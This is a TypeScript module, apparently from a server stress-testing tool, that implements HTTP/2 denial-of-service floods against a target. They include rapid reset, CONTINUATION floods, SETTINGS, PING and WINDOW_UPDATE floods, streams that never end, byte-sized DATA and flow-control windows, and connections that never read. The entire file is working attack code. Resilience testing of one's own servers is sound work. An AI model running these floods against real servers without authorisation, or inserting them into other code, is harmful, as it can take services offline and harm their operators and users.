import type { Socket } from 'node:net';
import {
  CONTINUATION,
  countEnds,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  inferHeaders,
  leave,
  openHttp2,
  PING,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  UNKNOWN,
  WINDOW_UPDATE,
} from '../frames.js';
import { framed, inferMessage } from '../protobuf.js';
import { write } from '../sockets.js';
import { repeat, sleepUntil, type Tally } from '../tally.js';
import type { Attack, Target } from '../target.js';

/** Floods of HTTP/2 frames: each is small, and makes the other side work, keep or answer. */

const BATCH = 200;

/** Frames that a connection sends next; `round` counts from 0. */
type Flood = (round: number) => Buffer;

const CANCEL = Buffer.from([0, 0, 0, 8]);
const PING_BYTES = Buffer.alloc(8);
const CREDIT = Buffer.from([0, 0, 0, 0, 16]);

const WHOLE_CALL = frame(DATA, END_STREAM, 1, framed(inferMessage()));
const ONE = Buffer.from([0, 0, 0, 1]);
const LARGE_MESSAGE = Buffer.from([0, 3, 0, 0, 0]);

const floods: readonly (readonly [string, Flood])[] = [
  ['h2 rapid reset', (round) => streams(round, (id) => [open(id), frame(RST_STREAM, 0, id, CANCEL)])],
  [
    'h2 rapid reset of whole calls',
    (round) => streams(round, (id) => [open(id), onStream(WHOLE_CALL, id), frame(RST_STREAM, 0, id, CANCEL)]),
  ],
  ['h2 streams that end at once', (round) => streams(round, (id) => [frame(HEADERS, 5, id, inferHeaders())])],
  ['h2 streams that never end', (round) => streams(round, (id) => [open(id)])],
  ['h2 settings', () => many(frame(SETTINGS, 0, 0))],
  ['h2 pings', () => many(frame(PING, 0, 0, PING_BYTES))],
  ['h2 priorities', (round) => streams(round, (id) => [frame(PRIORITY, 0, id, CREDIT)])],
  ['h2 window updates', () => many(frame(WINDOW_UPDATE, 0, 0, ONE))],
  ['h2 unknown frames', () => many(frame(UNKNOWN, 0, 0, ONE))],
  [
    'h2 data by the byte',
    (round) => Buffer.concat([...first(round, largeCall()), many(frame(DATA, 0, 1, Buffer.alloc(1)))]),
  ],
  ['h2 empty data', (round) => Buffer.concat([...first(round, open(1)), many(frame(DATA, 0, 1))])],
  ['h2 endless continuation', (round) => continuation(round, inferHeaders({ x: 'a'.repeat(100) }))],
  ['h2 empty continuation', (round) => continuation(round, Buffer.alloc(0))],
];

export const FLOOD_ATTACKS: readonly Attack[] = [
  ...floods.map(
    ([name, flood]): Attack => ({
      name,
      setting: 'plain',
      run: (target, tally, untilMs) => send(target, tally, untilMs, flood),
    }),
  ),
  { name: 'h2 windows of a byte', setting: 'plain', run: tinyWindows },
];

function open(id: number): Buffer {
  return frame(HEADERS, END_HEADERS, id, inferHeaders());
}

/** The beginning of a call with a message of 50 MB. */
function largeCall(): Buffer {
  return Buffer.concat([open(1), frame(DATA, 0, 1, LARGE_MESSAGE)]);
}

/** The same frame on another stream. */
function onStream(one: Buffer, id: number): Buffer {
  const copy = Buffer.from(one);
  copy.writeUInt32BE(id, 5);
  return copy;
}

function streams(round: number, of: (id: number) => readonly Buffer[]): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, (_, i) => of(2 * (round * BATCH + i) + 1)).flat());
}

function many(one: Buffer): Buffer {
  return Buffer.alloc(one.length * BATCH, one);
}

function first(round: number, one: Buffer): Buffer[] {
  return round === 0 ? [one] : [];
}

/** Headers that never end. */
function continuation(round: number, block: Buffer): Buffer {
  const opening = frame(HEADERS, 0, 1, inferHeaders());
  return Buffer.concat([...first(round, opening), many(frame(CONTINUATION, 0, 1, block))]);
}

/** Four connections, of which two never read, each replaced when it is closed. */
async function send(target: Target, tally: Tally, untilMs: number, flood: Flood): Promise<void> {
  let connections = 0;
  await repeat(4, untilMs, async () => {
    const socket = await openHttp2(target, tally);
    if (socket === null) return;
    if (connections++ % 2 === 0) countEnds(socket, tally);
    else socket.pause();
    await floodOn(socket, untilMs, flood);
    leave(socket);
  });
}

async function floodOn(socket: Socket, untilMs: number, flood: Flood): Promise<void> {
  for (let round = 0; performance.now() < untilMs; round++) {
    const isOpen = await Promise.race([
      write(socket, flood(round)),
      // One that never reads waits for the server's patience.
      sleepUntil(untilMs).then(() => false),
    ]);
    if (!isOpen) return;
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** Answers may leave a byte at a time, if at all. */
async function tinyWindows(target: Target, tally: Tally, untilMs: number): Promise<void> {
  const INITIAL_WINDOW_SIZE = 4;
  const message = frame(DATA, END_STREAM, 1, Buffer.alloc(5));
  for (let i = 0; i < 50; i++) {
    const socket = await openHttp2(target, tally, [[INITIAL_WINDOW_SIZE, 1]]);
    if (socket === null) continue;
    countEnds(socket, tally);
    socket.write(Buffer.concat([open(1), message]));
  }
  await sleepUntil(untilMs);
}
